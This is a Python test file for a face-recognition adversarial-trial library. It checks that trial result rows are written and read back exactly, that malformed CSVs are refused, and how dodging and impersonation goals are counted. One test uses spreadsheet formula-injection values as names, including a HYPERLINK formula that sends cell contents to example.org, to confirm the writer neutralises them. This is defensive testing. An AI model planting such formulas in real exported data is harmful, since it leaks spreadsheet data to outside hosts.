"""Rows of a trial: written and read to the bit, refused where they are none, and counted as the goal says."""

import csv
import math

import numpy as np
import pandas as pd
import pytest

from facetrial.core.errors import FacetrialError
from facetrial.trial.rows import at_stake, check_columns, check_rows, read_rows, read_verdicts, write_rows
from tests.helpers.made_up import made_up_rows


def test_they_come_back_to_the_bit(tmp_path):
    names = [
        "None",
        "NA",
        "0002",
        "nan",
        'Zoë, the "first"',
        "1e5",
        "=1+1",
        "''",
        "'Brien",
        "-5",
        "\t=1",
        "a\rb\nc",
    ]
    rows = made_up_rows(dict.fromkeys(names, 2), attacked=0.5)
    rows["rms"] = np.random.default_rng(0).random(len(rows)) ** 20
    rows["smallest"] = [math.inf, *rows["rms"][1:]]
    rows["picture_digest"] = [f"{row:015d}e1"[-16:] for row in range(len(rows))]  # which look like numbers
    rows["second"] = rows["certified_class"] = rows["target"] = rows["identity"]
    write_rows(rows, tmp_path / "verdicts.csv")
    pd.testing.assert_frame_equal(read_rows(tmp_path / "verdicts.csv"), rows, check_exact=True)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "\uff1d"])
def test_no_name_is_a_formula_of_a_spreadsheet(tmp_path, sign):
    name = f'{sign}HYPERLINK("https://example.org/?"&A1)'
    rows = made_up_rows({name: 2, "'Ann": 1}, attacked=0.5)
    rows["margin_clean"] = -0.25
    write_rows(rows, tmp_path / "verdicts.csv")
    with (tmp_path / "verdicts.csv").open(newline="") as file:
        cells = {cell for line in csv.reader(file) for cell in line if cell}
    assert {cell for cell in cells if cell[0] in "=+-@\t\r\uff1d"} == {
        "-0.25",
        "-0.2",
    }  # numbers stay numbers
    assert set(read_rows(tmp_path / "verdicts.csv")["identity"]) == {name, "'Ann"}


@pytest.fixture
def rows():
    return made_up_rows({"Ann": 3, "Bob": 2}, attacked=0.5)


def test_rows_of_a_trial_pass(rows):
    check_rows(rows)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (
            lambda rows: rows.drop(columns=["reached", "correct_8bit"]),
            "lack the columns correct_8bit, reached",
        ),
        (lambda rows: rows[:0], "without a single picture"),
        (lambda rows: pd.concat([rows, rows[1:2]]), r"found Ann/Ann_0001\.jpg more than once"),
        (lambda rows: rows.assign(status=["lost", *rows["status"][1:]]), r"found \['lost'\]"),
    ],
)
def test_what_are_no_rows_of_a_trial_is_said(rows, change, said):
    with pytest.raises(FacetrialError, match=said):
        check_rows(change(rows))


def test_dodging_puts_at_stake_who_is_recognised(rows):
    rows["correct_clean"] = [True, True, False, True, False]
    rows["correct_attacked"] = [True, False, False, False, True]
    risked, hits = at_stake(rows, "dodging")
    assert risked["file"].tolist() == rows["file"][[0, 1, 3]].tolist()
    assert hits.tolist() == [False, True, True]


def test_impersonation_puts_at_stake_who_is_not_yet_the_target(rows):
    rows["target"] = ["Bob", "Bob", "Bob", "Ann", "Ann"]
    rows["predicted_clean"] = ["Ann", "Bob", "Cid", "Bob", "Ann"]
    rows["predicted_attacked"] = ["Bob", "Bob", "Ann", "Cid", "Bob"]
    risked, hits = at_stake(rows, "impersonation")
    assert risked["file"].tolist() == rows["file"][[0, 2, 3]].tolist()
    assert hits.tolist() == [True, False, False]


def test_goals_that_cannot_be(rows):
    with pytest.raises(FacetrialError, match="need the column target"):
        at_stake(rows, "impersonation")
    with pytest.raises(FacetrialError, match="found 'bribery'"):
        at_stake(rows, "bribery")


def test_verdicts_of_a_finished_trial_are_read_strictly(rows, tmp_path):
    path = tmp_path / "verdicts.csv"
    rows["smallest"] = [math.inf, 0.1, 0.2, 0.3, 0.4]
    write_rows(rows, path)
    pd.testing.assert_frame_equal(read_verdicts(path), rows, check_exact=True)
    with pytest.raises(FacetrialError, match=r"none\.csv: .*Run the trial again"):
        read_verdicts(tmp_path / "none.csv")


@pytest.mark.parametrize(
    ("damage", "said"),
    [
        (lambda text: text.replace("reached", "raeched", 1), "lack the columns reached"),
        (lambda text: text.replace("True", "yes", 1), "expected True or False in the column correct_clean"),
        (
            lambda text: text.replace("0.15,", "1.5,", 1),
            "expected numbers from 0 to 1 in the column region_area",
        ),
        (
            lambda text: text.replace("27.7", "-27.7", 1),
            "expected numbers from 0 on in the column l2, found -27.7",
        ),
        (
            lambda text: text.replace("27.7", "far", 1),
            "expected numbers from 0 on in the column l2, found far",
        ),
        (
            lambda text: text.replace(",1000,", ",1e3.5,", 1),
            "whole numbers from 0 on in the column pixels_changed",
        ),
        (lambda text: text.replace(",attacked,", ",lost,", 1), r"found \['lost'\]"),
        (lambda text: text[: len(text) - 40], "expected status attacked"),
        (lambda text: text + text.splitlines()[-1], "more than once"),
        (lambda text: text + "a,b,c" + "," * 40, "Expected 20 fields"),
        (lambda text: text.splitlines()[0], "without a single picture"),
        (lambda text: "", "No columns"),
    ],
)
def test_what_is_wrong_in_verdicts_is_named(rows, tmp_path, damage, said):
    path = tmp_path / "verdicts.csv"
    write_rows(rows, path)
    path.write_text(damage(path.read_text()))
    with pytest.raises(FacetrialError, match=rf"verdicts\.csv: .*{said}.*Run the trial again"):
        read_verdicts(path)


def test_a_margin_that_is_no_number_comes_back_as_none(rows, tmp_path):
    rows.loc[1, "margin_attacked"] = math.nan
    write_rows(rows, tmp_path / "verdicts.csv")
    pd.testing.assert_frame_equal(read_verdicts(tmp_path / "verdicts.csv"), rows, check_exact=True)


@pytest.mark.parametrize(
    ("column", "value", "said"),
    [
        ("correct_attacked", "Falsd", "True or False"),
        ("reached", 1, "True or False"),
        ("rms", math.nan, "numbers from 0 on"),
        ("margin_clean", "far", "numbers, or none"),
        ("queries", 1.5, "whole numbers"),
    ],
)
def test_a_value_that_a_column_cannot_have_is_refused_wherever_rows_come_from(rows, column, value, said):
    check_columns(rows)
    rows[column] = rows[column].astype(object)
    rows.loc[2, column] = value
    rows = rows.infer_objects()
    with pytest.raises(FacetrialError, match=f"expected {said}.* in the column {column}"):
        check_rows(rows)


def test_a_picture_that_could_not_be_attacked_has_no_smallest_change():
    rows = pd.DataFrame({"status": ["attacked", "not_attackable"], "smallest": [0.5, float("nan")]})
    check_columns(rows)
    with pytest.raises(FacetrialError, match="smallest"):
        check_columns(rows.assign(status="attacked"))
